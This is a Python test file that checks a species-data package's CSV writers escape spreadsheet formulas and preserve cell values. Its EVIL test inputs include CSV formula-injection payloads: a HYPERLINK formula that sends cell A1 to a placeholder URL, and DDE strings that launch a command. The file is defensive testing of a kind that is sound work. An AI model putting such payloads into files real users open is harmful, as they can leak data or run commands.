"""CSV files: no cell is run by a spreadsheet, and every cell is read back unchanged."""

import csv
import re
from pathlib import Path

import numpy as np
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import ophis
from ophis import CountryPrior, Manifest, SpeciesList, read_manifest
from ophis.evaluation.report.figure import Figure, write_figures
from ophis.files.csv import escape_formula, unescape_formula, write_csv
from ophis.files.tables import escape_formulas as table_as_text
from ophis.files.tables import read_rows
from ophis.priors.country_counts import read_counts
from ophis.priors.overrides import Override, read_overrides, write_overrides
from ophis.priors.range_maps import RangeMap, read_range_map
from ophis.taxonomy.species_list import species_key
from ophis.train.photo_check import SKIPPED, read_skipped

EVIL = (
    "=1+a",
    '=HYPERLINK("http://a.example/"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "'=a",
    "# a comment",
    "#a",
    "''@x",
)  # fmt: skip
WIDE = "\uff1d\uff0b\uff0d\uff20"
STARTS = tuple("#=+-@\t\r" + WIDE)
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
CELL = st.text(st.sampled_from([*"=+-@'\t\r 1.e", "a", '"', ",", "\n", *WIDE]), max_size=6)


def formulas_in(path: Path) -> list[str]:
    """Return the cells that are formulas, read with the standard library alone."""
    with path.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    return [cell for cell in cells if cell.startswith(STARTS) and not NUMBER.fullmatch(cell)]


@given(CELL)
def test_cell_is_read_back_and_never_a_formula(cell):
    written = escape_formula(cell)
    assert unescape_formula(written) == cell
    assert not written.startswith(STARTS) or NUMBER.fullmatch(written)


@given(st.lists(CELL, min_size=1, max_size=5))
def test_tables_and_single_cells_are_escaped_alike(cells):
    table = pl.DataFrame({"a": cells, "=b": list(range(len(cells)))}, schema_overrides={"a": str})
    written = table_as_text(table)
    assert written["a"].to_list() == list(map(escape_formula, cells))
    assert written.columns == ["a", "'=b"]


def written_species(folder: Path) -> tuple[object, object]:
    species = SpeciesList(EVIL)
    return species, SpeciesList.read(species.write(folder / "x.csv"))


def written_counts(folder: Path) -> tuple[object, object]:
    species = SpeciesList(EVIL)
    counts = np.full((1, len(EVIL)), 2)
    prior = CountryPrior(species=species, countries=("kenya",), counts=counts)
    back = read_counts(prior.write(folder / "x.csv"), species)
    return (prior.species, prior.counts.tolist()), (back.species, back.counts.tolist())


def written_overrides(folder: Path) -> tuple[object, object]:
    overrides = tuple(Override("kenya", name, 0.0, "x") for name in EVIL)
    back = read_overrides(write_overrides(overrides, folder / "x.csv"))
    return [override.species for override in overrides], [override.species for override in back]


def written_range_map(folder: Path) -> tuple[object, object]:
    names = [species_key(name) for name in EVIL]
    there = RangeMap(dict.fromkeys(names, frozenset({"KE"})), frozenset({"KE"}))
    return there.places, read_range_map(there.write(folder / "x.csv")).places


def written_manifest(folder: Path) -> tuple[object, object]:
    photos = [f"{name.replace('/', '')}.jpg" for name in EVIL]
    text = {"photo_id": EVIL, "photo": photos, "species": EVIL, "country": "kenya"}
    more = {"observation": EVIL, "note": EVIL, "latitude": ["-1.5"] * len(EVIL), "@more": "x"}
    manifest = Manifest(pl.DataFrame(text | more, strict=False), folder)
    back = read_manifest(manifest.write(folder / "x.csv"))
    assert ",-1.5," in (folder / "x.csv").read_text()  # a number is no formula
    return manifest.table.to_dict(as_series=False), back.table.to_dict(as_series=False)


def written_skipped(folder: Path) -> tuple[object, object]:
    reasons = {name: f"{name}: this is no photo" for name in EVIL}
    rows = [("train", *one) for one in reasons.items()]
    write_csv(folder / SKIPPED, [("part", "photo_id", "reason"), *rows])
    (folder / "x.csv").write_bytes((folder / SKIPPED).read_bytes())
    return {"train": reasons}, read_skipped(folder)


def written_figures(folder: Path) -> tuple[object, object]:
    numbers = pl.DataFrame({"species": EVIL, "difference": [-0.5] * len(EVIL)})
    write_figures([Figure(name="x", title="", caption="", svg="<svg/>", numbers=numbers)], folder)
    return list(EVIL), read_rows(folder / "x.csv")["species"].to_list()


WRITERS = {
    name.removeprefix("written_"): write
    for name, write in globals().items()
    if name.startswith("written_")
}


@pytest.mark.parametrize("name", WRITERS)
def test_no_file_contains_a_formula_and_all_are_read_back(name, tmp_path, figure):
    expected, read = WRITERS[name](tmp_path)
    assert expected == read
    assert formulas_in(tmp_path / "x.csv") == []
    figure(name)


# Modules that write CSV themselves, with the reason.
CSV_MODULES = {
    "files/csv.py": "the writer of all other modules",
    "challenges/submission.py": "challenges compare ids and names as they are",
    "datasets/shards/writer.py": "for a digest",
    "datasets/manifest.py": "for a digest, and escaped text",
    "evaluation/report/figure.py": "escaped text",
}


def test_no_other_module_writes_csv():
    source = Path(ophis.__file__).parent
    found = {
        path.relative_to(source).as_posix()
        for path in source.rglob("*.py")
        if re.search(r"csv\.writer|DictWriter|\.write_csv\(", path.read_text(encoding="utf-8"))
    }
    assert found == set(CSV_MODULES)
